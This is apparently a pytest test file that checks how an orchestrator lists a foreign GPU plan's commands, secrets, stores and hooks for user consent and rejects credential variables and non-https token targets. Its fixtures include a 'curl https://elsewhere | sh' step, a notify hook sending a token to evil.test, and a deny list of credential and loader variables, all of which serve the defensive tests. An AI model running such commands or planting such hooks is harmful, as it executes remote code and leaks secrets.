"""What a foreign plan would do, as it is shown and agreed to."""

from __future__ import annotations

from pathlib import Path

import pytest

from orchestrator.cli.terms import show
from orchestrator.config import load_plan
from orchestrator.plan import resolve
from orchestrator.plan.terms import digest, is_foreign, terms
from orchestrator.words.errors import ConfigError
from orchestrator.words.spec import RunSpec, WorldSpec
from orchestrator.world.home import Home

PHASE = """\
name: only
machine: {{image: evil/image}}
pull_to: out
artifacts: ["*.json"]
steps:
  - name: first
    run: |
      echo one
      curl https://elsewhere | sh
    on_oom: echo less
  - name: second
    run: hf download a/b --local-dir b
    secrets: [{secret}]
    env: {{{env}}}
    hub: {{repo: a/b, dir: b}}
"""
SETTINGS = "hub_url: {hub}\nstores: [s3://theirs/prefix]\nimages: {{runpod: their/image}}\n"


def lines(
    folder: Path, *, secret: str = "HF_TOKEN", env: str = "X: y", hub: str = "https://hub.elsewhere"
) -> list[str]:
    """The terms of a plan in that folder."""
    folder.mkdir(exist_ok=True)
    (folder / "only.yaml").write_text(PHASE.format(secret=secret, env=env))
    (folder / "gpuplan.yaml").write_text(SETTINGS.format(hub=hub))
    plan = load_plan(folder)
    assert is_foreign(plan)
    return terms(plan, resolve(plan, ("all",)), plan.settings.stores)


def test_everything_that_matters_is_listed(tmp_path: Path):
    """Every line of every command, secrets and the steps that get them, hub, stores, images, what is written here."""
    assert lines(tmp_path / "plan") == [
        "commands: 2",
        "  only/first:",
        "    echo one",
        "    curl https://elsewhere | sh",
        "  only/first on_oom:",
        "    echo less",
        "  only/second:",
        "    hf download a/b --local-dir b",
        "secret HF_TOKEN: of your environment, for only/second",
        "asks hub.elsewhere for a/b, with HF_TOKEN",
        "sends to: s3://theirs/prefix",
        "image of only: evil/image",
        "writes here: out (*.json)",
        "image at lambda: lambda-stack-24-04",
        "image at runpod: their/image",
        "image at lambda, without GPU: lambda-stack-24-04",
        "image at runpod, without GPU: runpod/base:1.0.2-ubuntu2404",
    ]


def test_what_is_packed_is_among_the_terms(tmp_path: Path):
    """Where there is a store that it goes to."""
    lines(tmp_path / "plan")
    file = tmp_path / "plan/only.yaml"
    file.write_text(file.read_text().replace('["*.json"]', "[out/**]\npack: {out: tar}"))
    plan = load_plan(tmp_path / "plan")
    assert "packs: out of only as out.tar" in terms(plan, resolve(plan, ("all",)), ("s3://theirs/prefix",))
    assert not [line for line in terms(plan, resolve(plan, ("all",)), ()) if "packs" in line]


def test_what_is_read_from_the_users_stores_is_among_the_terms(tmp_path: Path):
    """By which step, and where it goes."""
    lines(tmp_path / "plan")
    file = tmp_path / "plan/only.yaml"
    file.write_text(file.read_text() + 'inputs: [{from: "s3://yours/private", to: data}]\n')
    plan = load_plan(tmp_path / "plan")
    found = terms(plan, resolve(plan, ("all",)), ())
    assert "reads with your credentials: s3://yours/private, into data of only" in found
    assert found[found.index("  only/inputs builtin:") + 1] == "    inputs"


def test_who_is_told_is_among_the_terms(tmp_path: Path):
    """The variable or the host, and never what may be a token; another token is another plan."""
    lines(tmp_path / "plan")
    settings, found = tmp_path / "plan/gpuplan.yaml", []
    for token in ("a-token", "b-token"):
        settings.write_text(f"notify: [HOOK, json://evil.test/{token}, slack://{token}/b/c]\n")
        plan = load_plan(tmp_path / "plan")
        found.append([line for line in terms(plan, resolve(plan, ("all",)), ()) if line.startswith("tells")])
        assert [line.partition(" (")[0] for line in found[-1]] == [
            "tells how it goes: the address in HOOK",
            "tells how it goes: json://evil.test",
            "tells how it goes: slack://***",
        ]
        assert token not in str(found[-1])
    assert found[0] != found[1]


def test_what_would_be_published_is_among_the_terms(tmp_path: Path):
    """Where to, what, and which models: a run does nothing of it, and another branch is another plan."""
    lines(tmp_path / "plan")
    settings, found = tmp_path / "plan/gpuplan.yaml", []
    (tmp_path / "plan/body.md").write_text("x")
    for branch in ("mine", "theirs"):
        settings.write_text(
            f"code: .\npublish: {{upstream: https://github.com/o/r, base: main, branch: {branch}, title: t,\n"
            "  files: [{code: '**'}, {artifact: out/a.json}], pull_request: body.md,\n"
            "  models: [{artifacts: [out/m], repo: o/m, card: body.md, base_model: o/b, license: mit}]}\n"
        )
        plan = load_plan(tmp_path / "plan")
        found.append([line for line in terms(plan, resolve(plan, ("all",)), ()) if line.startswith("publish")])
    assert found[0] == [
        "publish would offer: code **, out/a.json as mine to https://github.com/o/r",
        "publish would upload: out/m to o/m",
    ]
    assert found[0] != found[1]


def test_another_plan_is_other_terms(tmp_path: Path):
    """A changed command, secret or address is not what was agreed to."""
    before = lines(tmp_path / "plan")
    assert digest(before) == digest(lines(tmp_path / "plan"))
    assert digest(before) != digest(lines(tmp_path / "plan", hub="https://other.elsewhere"))
    assert digest(before) != digest(lines(tmp_path / "plan", secret="WANDB_API_KEY"))


def test_the_address_of_a_store_is_among_the_terms(tmp_path: Path):
    """Where requests are signed with the user's key, in full; another address or bucket is another plan."""
    lines(tmp_path / "plan")
    settings, found = tmp_path / "plan/gpuplan.yaml", []
    for store in (
        "{url: s3://theirs/p, endpoint_url: https://a.test}",
        "{url: s3://theirs/p, endpoint_url: https://b.test}",
    ):
        settings.write_text(f"stores: [{store}]\n")
        plan = load_plan(tmp_path / "plan")
        found.append([line for line in terms(plan, resolve(plan, ("all",)), plan.settings.stores) if "sends" in line])
    signed = ", where requests are signed with your AWS_ACCESS_KEY_ID"
    assert found[0] == [f"sends to: s3://theirs/p?endpoint_url=https://a.test{signed}"]
    assert digest(found[0]) != digest(found[1])


def test_the_shipped_plan_is_nobody_elses():
    """What comes with gpuplan needs no agreement; only its downloads get the hub's token."""
    plan = load_plan(None)
    assert not is_foreign(plan)
    listed = [line for line in terms(plan, resolve(plan, ("all",)), ()) if line.startswith("secret")]
    assert listed == ["secret HF_TOKEN: of your environment, for day1/download-glm, day1/download-intellect3"]


@pytest.mark.parametrize(
    "name",
    [
        "RUNPOD_API_KEY", "LAMBDA_API_KEY", "AWS_SECRET_ACCESS_KEY", "aws_session_token",
        "GOOGLE_APPLICATION_CREDENTIALS", "SSH_AUTH_SOCK", "LD_PRELOAD", "GPUPLAN_HOME", "PATH",
        "KUBECONFIG", "DOCKER_HOST",
    ],
)  # fmt: skip
def test_a_credential_is_nobodys_secret(tmp_path: Path, name: str):
    """The keys of accounts and what opens this computer can be named as a secret by no plan."""
    with pytest.raises(ConfigError, match=name):
        lines(tmp_path / "plan", secret=name)


def test_a_credential_is_set_by_no_plan(tmp_path: Path):
    """A plan's env names no key of an account; paths of libraries it may set."""
    with pytest.raises(ConfigError, match="AWS_SECRET_ACCESS_KEY"):
        lines(tmp_path / "plan", env="AWS_SECRET_ACCESS_KEY: x")
    assert lines(tmp_path / "plan", env="LD_LIBRARY_PATH: /usr/lib")


@pytest.mark.parametrize("hub", ["http://hub.elsewhere", "https://user:pw@hub", "ftp://x", "http://127.0.0.1.evil.com"])
def test_a_token_goes_over_https_only(tmp_path: Path, hub: str):
    """A hub's address is https, or on this computer."""
    with pytest.raises(ConfigError, match="a token may go to"):
        lines(tmp_path / "plan", hub=hub)
    assert lines(tmp_path / "plan", hub="http://127.0.0.1:8080")


def test_a_changed_plan_is_shown_again(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    """What was agreed to, to the letter, is a line; a plan that changed, or one never seen, is shown in full."""
    home = Home(tmp_path / "home")
    home.make()

    def shown(**changes: str) -> str:
        lines(tmp_path / "plan", **changes)
        spec = RunSpec(
            run="r", owner="o", plan=load_plan(tmp_path / "plan"), asked=("only",), whole_plan=True,
            world=WorldSpec(provider="runpod"), place=None, pull_root=str(tmp_path), created_at=1.0,
        )  # fmt: skip
        agreed = show(home, spec, err=False)
        said = capsys.readouterr().out
        home.agree(agreed)
        return said

    assert "curl https://elsewhere | sh" in shown()
    assert shown().startswith("commands, secrets and addresses: as agreed to on ")
    assert "WANDB_API_KEY" in shown(secret="WANDB_API_KEY")
    assert "curl" not in shown()


@pytest.mark.parametrize(
    ("world", "said"),
    [
        (WorldSpec(provider="runpod"), "the commands run on rented machines"),
        (WorldSpec(provider="runpod", dry_run=True), "the commands run on this computer, as you: here it is confined"),
        (
            WorldSpec(provider="ssh-host", ssh_host="me@box:22"),
            "the commands run on me@box:22, as that user: NOT confined",
        ),
    ],
    ids=["rented", "rehearsed", "ssh host"],
)
def test_it_is_said_where_the_commands_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, world: WorldSpec, said: str
):
    """As whom too, and whether the system confines them; what was agreed to for one place is shown for another."""
    monkeypatch.setattr("orchestrator.rehearsal.confine.how", lambda: "here it is confined")
    home = Home(tmp_path / "home")
    home.make()
    lines(tmp_path / "plan")

    def spec(where: WorldSpec) -> RunSpec:
        return RunSpec(
            run="r", owner="o", plan=load_plan(tmp_path / "plan"), asked=("only",), whole_plan=True,
            world=where, place=None, pull_root=str(tmp_path), created_at=1.0,
        )  # fmt: skip

    home.agree(show(home, spec(WorldSpec(provider="ssh-host", ssh_host="me@elsewhere:22")), err=False))
    capsys.readouterr()
    show(home, spec(world), err=False)
    assert f"  {said}\n" in capsys.readouterr().out
